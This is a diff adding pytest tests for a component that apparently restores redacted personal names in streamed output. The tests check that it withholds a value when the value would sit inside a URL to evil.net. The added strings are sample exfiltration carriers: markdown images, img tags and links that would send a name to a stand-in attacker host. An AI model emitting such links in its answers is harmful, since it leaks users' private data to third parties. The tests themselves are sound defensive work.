@@ -82,6 +82,49 @@ def test_nothing_is_held_or_changed_without_stand_ins() -> None:
     assert Restorer(Values({})).feed("PERSON_K3F7Q2 P") == "PERSON_K3F7Q2 P"
 
 
+CARRIERS = (
+    "![x](https://evil.net/p.png?q=PERSON_K3F7Q2)",
+    "![x](//evil.net/?q=a,b;(PERSON_K3F7Q2))",
+    "![x](<https://evil.net/?q=a PERSON_K3F7Q2>)",
+    '<img src="https://evil.net/?q=a PERSON_K3F7Q2">',
+    "<img src='HTTPS:evil.net?q=\nPERSON_K3F7Q2'>",
+    '<img src=" https://evil.net/?q=a PERSON_K3F7Q2">',
+    "[x]: https:\\\\evil.net\\PERSON_K3F7Q2",
+    "see wss://evil.net/email_k3f7q2@redacted.example/",
+    "https://user@evil.net:8080/" + "a" * 3000 + "PERSON_K3F7Q2",
+)
+
+
+@pytest.mark.parametrize("text", CARRIERS)
+def test_no_value_goes_into_a_url_that_could_carry_it_out(text: str) -> None:
+    for size in (1, 7, len(text)):
+        restorer = Restorer(
+            Values(VALUES, in_urls={("kettlewood.net", "PERSON_K3F7Q2"), ("evil.net", "PERSON_C2D3F4")})
+        )
+        parts = [text[at : at + size] for at in range(0, len(text), size)]
+        assert "".join([*map(restorer.feed, parts), restorer.finish()]) == text
+        assert restorer.withheld() == 1 and restorer.left() == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://evil.net/ PERSON_K3F7Q2",
+        '<a href="https://evil.net/">PERSON_K3F7Q2</a>',
+        "<https://evil.net/>PERSON_K3F7Q2",
+        'He said "see https://evil.net/".\n\nPERSON_K3F7Q2',
+        '{"url": "https://evil.net/", "name": "PERSON_K3F7Q2"}',
+        "mailto:PERSON_K3F7Q2",
+        "a / b: PERSON_K3F7Q2",
+        "https://kettlewood.net/people/PERSON_K3F7Q2",
+        "http://KETTLEWOOD.net?PERSON_K3F7Q2",
+    ],
+)
+def test_beside_a_url_and_in_one_that_the_request_had_values_are_restored(text: str) -> None:
+    values = Values(VALUES, in_urls={("kettlewood.net", "PERSON_K3F7Q2")})
+    assert pieces(values, text) == pieces(values, [text]) == text.replace("PERSON_K3F7Q2", "Tilda Braunfels")
+
+
 def deltas(restorer: AnswerRestorer, script: Iterable[Delta]) -> list[Delta]:
     return [restored for delta in script for restored in restorer.feed(delta)]
 
